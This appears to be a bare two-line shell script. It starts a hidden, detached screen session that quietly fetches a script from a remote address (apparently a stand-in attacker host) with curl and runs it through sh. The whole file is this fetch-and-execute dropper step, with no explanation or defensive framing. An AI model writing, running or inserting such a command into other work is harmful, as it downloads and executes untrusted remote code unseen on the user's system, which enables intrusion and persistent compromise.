#!/bin/sh
screen -dmS a sh -c 'curl -s http://192.0.2.8/x | sh'
